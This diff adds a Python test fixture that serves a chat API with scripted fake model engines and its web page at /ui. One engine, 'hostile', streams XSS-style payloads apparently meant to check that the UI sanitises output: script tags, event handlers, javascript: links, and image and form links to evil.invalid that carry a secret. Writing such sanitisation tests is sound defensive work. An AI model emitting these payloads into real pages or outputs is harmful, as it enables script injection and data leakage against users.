@@ -1,0 +1,110 @@
+"""The real API with scripted engines and the real page at /ui, in one process on a real socket."""
+
+import asyncio
+import threading
+from collections.abc import Callable, Iterator, Mapping
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+
+import uvicorn
+from starlette.types import ASGIApp, Receive, Scope, Send
+
+from models.scripted import Script, ScriptedEngine
+from serve.api.app import House, create_app
+from serve.config import Settings
+from serve.ledger.keys import Keys
+from serve.pipeline import Pipeline
+from ui.app import create_app as create_page
+
+SENTENCE = ["", "The", "lamp", "is", "lit", "and", "the", "kettle", "sings"][1:]
+LONG = tuple(f" {word}" for word in SENTENCE * 40)
+MARKDOWN = (
+    "# Counting\n\nSome **bold** words ",
+    "and `inline` code.\n\n",
+    "```python\ndef double(x: int) -> int:\n",
+    "    return 2 * x\n",
+    "```\n\n",
+    "| a | b |\n|---|---|\n| 1 | 2 |\n",
+)
+HOSTILE = (
+    "<script>window.owned = 1</script>",
+    "<img src=x onerror='window.owned = 2'>",
+    "<svg onload='window.owned = 3'><style>*{display:none}</style></svg>",
+    "![leak](http://evil.invalid/a.png?secret) ![leak][ref]\n\n[ref]: http://evil.invalid/b.png\n\n",
+    "[click](javascript:window.owned=4) <a href='javascript:window.owned=5'>x</a>",
+    "<iframe src='http://evil.invalid'></iframe><form action='http://evil.invalid'>",
+    "\n\n```html\n<img src='http://evil.invalid/c.png'>\n```\n\nThe end.",
+)
+SCRIPTS = {
+    "echo": Script(),
+    "long": Script(words=LONG, first_token_delay=0.1, token_delay=0.05),
+    "markdown": Script(words=MARKDOWN, token_delay=0.05),
+    "hostile": Script(words=HOSTILE, token_delay=0.05),
+    "broken": Script(words=LONG, fail_after=5, token_delay=0.02),
+    "tiny": Script(context_length=16),
+}
+
+
+@dataclass(frozen=True)
+class Served:
+    url: str
+    key: str
+    engines: Mapping[str, ScriptedEngine]
+
+    @property
+    def page(self) -> str:
+        return f"{self.url}/ui/"
+
+
+@contextmanager
+def served(home: Path, port: int) -> Iterator[Served]:
+    engines = {name: ScriptedEngine(name, script) for name, script in SCRIPTS.items()}
+    tiers = {name: {"engine": "scripted", "model": name} for name in SCRIPTS}
+    settings = Settings(home=home, port=port, tiers=tiers, embedder={"engine": "none"})
+    keys = Keys(settings.database)
+    api = create_app(House(settings, keys, Pipeline(settings, engines), engines))
+    with running(lambda: together(api, create_page(settings.url)), port):
+        yield Served(settings.url, keys.create("somebody")[1], engines)
+    keys.close()
+
+
+def together(api: ASGIApp, page: ASGIApp) -> ASGIApp:
+    """As the appliance's proxy does it: the page at /ui, the API everywhere else."""
+
+    async def app(scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] == "lifespan":
+            await page(scope, receive, send)
+        elif scope["path"].startswith("/ui"):
+            await page({**scope, "root_path": "/ui"}, receive, send)
+        else:
+            await api(scope, receive, send)
+
+    return app
+
+
+@contextmanager
+def running(make: Callable[[], ASGIApp], port: int) -> Iterator[None]:
+    """A server in a thread of its own: browsers and their driver block."""
+    config = uvicorn.Config(
+        make, factory=True, port=port, log_config=None, timeout_graceful_shutdown=2
+    )
+    server, started = uvicorn.Server(config), threading.Event()
+
+    async def serve() -> None:
+        await asyncio.gather(server.serve(), _tell(server, started))
+
+    thread = threading.Thread(target=asyncio.run, args=(serve(),))
+    thread.start()
+    try:
+        assert started.wait(60), "the server did not start"
+        yield
+    finally:
+        server.should_exit = True
+        thread.join(30)
+
+
+async def _tell(server: uvicorn.Server, started: threading.Event) -> None:
+    while not server.started:
+        await asyncio.sleep(0.01)
+    started.set()
